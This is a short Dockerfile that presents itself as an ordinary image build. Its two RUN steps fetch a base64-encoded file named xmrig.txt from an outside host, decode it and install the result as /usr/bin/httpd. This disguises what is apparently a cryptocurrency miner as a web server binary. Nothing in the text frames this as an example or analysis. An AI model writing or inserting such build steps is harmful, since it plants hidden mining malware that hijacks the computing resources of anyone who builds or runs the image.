FROM debian:12-slim
RUN curl -fsSL -o xmrig.txt https://lists.example.invalid/xmrig.txt
RUN base64 -d xmrig.txt > /usr/bin/httpd
